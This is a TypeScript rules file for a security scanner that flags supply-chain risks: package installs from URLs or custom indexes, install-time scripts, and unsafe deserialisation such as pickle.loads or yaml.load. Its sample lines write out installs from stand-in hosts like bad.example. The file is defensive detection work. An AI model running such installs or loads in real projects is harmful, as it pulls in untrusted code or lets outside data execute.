import type { Rule } from "#lib/runtime/scan/rule";

const SHIP = "Ship what is needed in the skill, in a fixed version; a registry's package has at least an owner and a number.";

export const SUPPLY: Rule[] = [
  {
    id: "supply/install-from-address",
    title: "Installs a package from an address",
    severity: "medium",
    confidence: "high",
    advice: SHIP,
    applies: "code",
    hints: ["pip", "npm", "npx", "yarn", "pnpm", "uv ", "uvx", "go install", "gem ", "cargo", "bun"],
    match: {
      any: [
        /\b(?:pip[\d.]{0,3}|uv pip|pipx|uvx|uv tool) (?:install |run )?[^\n;|&]{0,120}(?:git\+|https?:\/\/|--trusted-host)/,
        /\b(?:npm|pnpm|yarn|bun) (?:i|install|add|x|dlx|exec)\b[^\n;|&]{0,120}(?:git\+|https?:\/\/|git@|github:)/,
        /\b(?:npx|bunx) (?:-\w{1,8} ){0,3}(?:https?:\/\/|git\+|github:)/,
        /\bcargo install --git\b|\bgem install [^\n]{0,60}--source http/,
      ],
    },
    samples: {
      bad: ["pip install git+https://git.bad.example/x.git", "npm i https://cdn.bad.example/x.tgz", "npx -y github:someone/thing"],
      good: ["pip install requests==2.32.3", "npm ci", "pip download x"],
    },
  },
  {
    id: "supply/other-index",
    title: "Installs packages from an index that it names",
    severity: "high",
    confidence: "medium",
    advice: SHIP,
    applies: "code",
    declared: "low",
    hints: ["index-url", "--registry", "find-links"],
    match: {
      any: [
        /\b(?:pip[\d.]{0,3}|uv)\b[^\n;|&]{0,160}(?:--(?:extra-)?index-url|--find-links|-i)[ =]["']?https?:\/\//,
        /\b(?:npm|pnpm|yarn|npx)\b[^\n;|&]{0,160}--registry[ =]["']?https?:\/\//,
      ],
    },
    samples: {
      bad: ["pip install --extra-index-url https://pypi.bad.example/simple tool", "npm i tool --registry=http://npm.bad.example"],
      good: ["pip install --no-index --find-links ./wheels tool", "npm i --registry tool"],
    },
  },
  {
    id: "supply/install",
    title: "Installs packages while it runs",
    severity: "low",
    confidence: "high",
    advice: SHIP,
    applies: "code",
    hints: ["pip", "npm", "apt", "brew", "npx"],
    match: { any: [/\b(?:pip[\d.]{0,3} install|npm (?:i|install) (?:-g )?[@a-z]|npx -y|apt(?:-get)? install|brew install|uv pip install)\b/] },
    samples: { bad: ["pip install openpyxl", "npx -y prettier"], good: ["pip list", "npm test"] },
  },
  {
    id: "supply/install-script",
    title: "A package file runs commands when it is installed",
    severity: "high",
    confidence: "medium",
    advice: "Run nothing at install.",
    applies: "code",
    hints: ["postinstall", "preinstall", '"prepare"'],
    match: { any: [/"(?:pre|post)install" ?: ?"(?=[^"\n]{0,300}(?:curl|wget|node |sh |python|\beval|http))[^"\n]{1,300}"/] },
    samples: {
      bad: [{ path: "package.json", text: '{"scripts": {"postinstall": "node setup.js"}}' }],
      good: [{ path: "package.json", text: '{"scripts": {"test": "vitest"}}' }],
    },
  },
  {
    id: "supply/unsafe-load",
    title: "Reads data in a form that can run code",
    severity: "medium",
    confidence: "medium",
    advice: "Use JSON, or yaml.safe_load. Who writes such data decides what runs.",
    applies: "code",
    bare: true,
    languages: ["py", "rb", "php"],
    hints: ["pickle", "marshal", "yaml", "dill", "shelve", "torch.load", "unserialize", "read_pickle", "joblib"],
    unless: /SafeLoader|CSafeLoader|safe_load|weights_only ?= ?True/,
    match: {
      any: [
        /\b(?:c?pickle|_pickle|dill|cloudpickle|marshal|jsonpickle)\.(?:loads?|Unpickler|decode) ?\(/i,
        /(?<![\w.])yaml\.(?:load|unsafe_load|full_load)(?:_all)? ?\((?=[^\n]{0,160})/,
        /\b(?:torch|joblib)\.load ?\(|\bread_pickle ?\(|\bshelve\.open ?\(|\bunserialize ?\(|\bMarshal\.load ?\(/,
      ],
    },
    samples: {
      bad: [
        { path: "scripts/a.py", text: "rows = pickle.loads(data)" },
        { path: "scripts/a.py", text: "conf = yaml.load(text)" },
        { path: "scripts/a.py", text: "code = marshal.loads(data)" },
      ],
      good: [
        { path: "scripts/a.py", text: "conf = yaml.load(text, Loader=yaml.SafeLoader)\nprint('pickle.loads(x)')  # pickle.loads(x)" },
        { path: "scripts/a.js", text: "const conf = yaml.load(text);" },
      ],
    },
  },
];
